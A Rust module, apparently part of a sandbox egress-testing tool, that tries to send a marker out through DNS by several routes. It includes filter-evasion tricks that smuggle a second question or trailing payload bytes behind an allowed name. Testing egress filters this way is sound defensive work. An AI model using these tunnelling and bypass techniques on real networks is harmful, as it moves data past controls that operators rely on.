//! Names as a channel: a question whose name is the payload, to any server, by UDP, TCP and the C library.

use std::ffi::CString;
use std::fs;
use std::net::{IpAddr, SocketAddr};

use crate::Vector;
use crate::outcome::{Attempt, Done, Step, Stop};
use crate::target::{self, MARKER, Target, tcp_for, udp_for};

pub(crate) const VECTORS: &[Vector] = &[
    ("dns_udp4", |t| udp(t, (t.v4, 53).into(), 1)),
    ("dns_udp6", |t| udp(t, (t.v6, 53).into(), 28)),
    ("dns_udp_txt", |t| udp(t, (t.v4, 53).into(), 16)),
    ("dns_udp_null", |t| udp(t, (t.v4, 53).into(), 10)),
    ("dns_tcp4", |t| tcp(t, (t.v4, 53).into())),
    ("dns_tcp6", |t| tcp(t, (t.v6, 53).into())),
    ("dns_resolv_conf", resolv_conf),
    ("dns_two_questions", two_questions),
    ("dns_trailing_bytes", trailing_bytes),
    ("dns_getaddrinfo", getaddrinfo),
];

/// The name asked for: `name=`, under which the marker is the leftmost label.
fn tunnel_name(t: &Target) -> String {
    format!("{MARKER}.{}", t.extra("name").unwrap_or("denied.test"))
}

fn question(out: &mut Vec<u8>, name: &str, kind: u16) {
    for label in name.split('.') {
        out.push(u8::try_from(label.len()).expect("a label is short"));
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
    out.extend_from_slice(&kind.to_be_bytes());
    out.extend_from_slice(&[0, 1]);
}

/// A query of RFC 1035 with recursion desired.
fn query(names: &[&str], kind: u16) -> Vec<u8> {
    let count = u8::try_from(names.len()).expect("few");
    let mut out = vec![0x77, 0x66, 1, 0, 0, count, 0, 0, 0, 0, 0, 0];
    names.iter().for_each(|name| question(&mut out, name, kind));
    out
}

/// What the low four bits of the answer's flags say (RFC 1035, 4.1.1).
fn answer(bytes: &[u8]) -> Done {
    match bytes.get(3) {
        Some(flags) => Done::Answered(format!("rcode {}, {} bytes", flags & 15, bytes.len())),
        None => Done::Answered("a short answer".to_owned()),
    }
}

fn ask_udp(to: SocketAddr, message: &[u8]) -> Attempt {
    let socket = udp_for(&to)?;
    socket.send_to(message, &to.into()).step("sendto")?;
    let mut bytes = [0_u8; 1500];
    let count = std::io::Read::read(&mut &socket, &mut bytes).step("recv")?;
    Ok(answer(&bytes[..count]))
}

fn udp(t: &Target, to: SocketAddr, kind: u16) -> Attempt {
    ask_udp(to, &query(&[&tunnel_name(t)], kind))
}

fn tcp(t: &Target, to: SocketAddr) -> Attempt {
    let message = query(&[&tunnel_name(t)], 1);
    let mut framed = u16::try_from(message.len()).expect("short").to_be_bytes().to_vec();
    framed.extend_from_slice(&message);
    let socket = tcp_for(&to)?;
    socket.connect(&to.into()).step("connect")?;
    target::send_all(&socket, &framed)?;
    let mut bytes = [0_u8; 1500];
    match std::io::Read::read(&mut &socket, &mut bytes).step("read")? {
        0 => Err(Stop::Closed("read")),
        count => Ok(answer(bytes.get(2..count).unwrap_or_default())),
    }
}

/// Every server /etc/resolv.conf names.
fn resolv_conf(t: &Target) -> Attempt {
    let text = fs::read_to_string("/etc/resolv.conf").step("read resolv.conf")?;
    let servers: Vec<IpAddr> = text
        .lines()
        .filter_map(|line| line.strip_prefix("nameserver"))
        .filter_map(|server| server.trim().parse().ok())
        .collect();
    let mut last = Err(Stop::Impossible("resolv.conf names no server".to_owned()));
    for server in servers {
        last = udp(t, (server, 53).into(), 1);
    }
    last
}

/// An allowed name first: whoever judges only the first question forwards the second.
fn two_questions(t: &Target) -> Attempt {
    let allowed = t.extra("allowed").unwrap_or("allowed.test");
    ask_udp((t.v4, 53).into(), &query(&[allowed, &tunnel_name(t)], 1))
}

/// An allowed question with bytes after it: a forwarder that copies the datagram carries them out.
fn trailing_bytes(t: &Target) -> Attempt {
    let allowed = t.extra("allowed").unwrap_or("allowed.test");
    let mut message = query(&[allowed], 1);
    message.extend_from_slice(&t.payload());
    ask_udp((t.v4, 53).into(), &message)
}

fn getaddrinfo(t: &Target) -> Attempt {
    let name = CString::new(tunnel_name(t)).expect("no NUL");
    let mut list = std::ptr::null_mut();
    // SAFETY: a C string, no service, no hints, and a place for the list.
    let code = unsafe { libc::getaddrinfo(name.as_ptr(), std::ptr::null(), std::ptr::null(), &raw mut list) };
    if code == 0 {
        // SAFETY: the list getaddrinfo has just made.
        unsafe { libc::freeaddrinfo(list) };
    }
    Ok(Done::Answered(format!("getaddrinfo {code}")))
}
